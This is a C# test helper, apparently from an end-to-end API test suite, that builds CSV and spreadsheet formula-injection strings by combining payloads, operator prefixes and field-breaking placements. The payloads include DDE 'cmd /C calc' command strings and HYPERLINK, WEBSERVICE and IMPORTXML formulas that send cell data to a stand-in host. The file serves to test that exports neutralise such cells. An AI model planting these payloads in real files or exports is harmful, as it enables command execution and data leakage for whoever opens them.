namespace SmeMatch.Api.Tests.EndToEnd;

/// <summary>Texts that a careless table would make formulas, commands or other cells of; the same every time.</summary>
internal static class HostileCells
{
    private static readonly string[] Payloads =
    [
        "1+1", "HYPERLINK(\"https://x.example/?\"&A1;\"Pay\")", "cmd|'/C calc'!A0", "SUM(1,1)*1",
        "WEBSERVICE(\"https://x.example\")", "IMPORTXML(\"https://x.example\",\"//a\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")", "-2", "@A1", "\u5099\u5F8C",
    ];

    private static readonly string[] Operators =
        ["=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", "=-", "@=", "'=", "''+", "\"="];

    /// <summary>{0} is where the formula stands.</summary>
    private static readonly string[] Places =
    [
        "{0}", "A;{0}", "A;\"{0};B", "A,{0}", "\"{0}\"", "'{0}", " {0}", "A\";{0}", "A;'{0}", "x,\";{0};\"", "A;;{0}",
        "A; {0}", ";{0}", "\"\";{0}", "A|{0}",
    ];

    /// <summary>On one line.</summary>
    public static IReadOnlyList<string> OneLine { get; } =
        [.. Places.SelectMany(place => Operators.SelectMany(
            begin => Payloads.Select(payload => Fill(place, begin + payload))))];

    /// <summary>With tabs and lines within, where a field takes them.</summary>
    public static IReadOnlyList<string> Lines { get; } =
    [
        .. ((string[])[
            "A\t{0}", "A\n{0}", "A\r\n{0}", "A\n\n{0}", "A\n\"{0}", "A\n'{0}", "A\t\"{0}\t", "A\n- {0}", "A\r{0}"])
            .SelectMany(place => Operators.SelectMany(
                begin => Payloads.Select(payload => Fill(place, begin + payload)))),
    ];

    private static string Fill(string place, string formula) => place.Replace("{0}", formula, StringComparison.Ordinal);
}
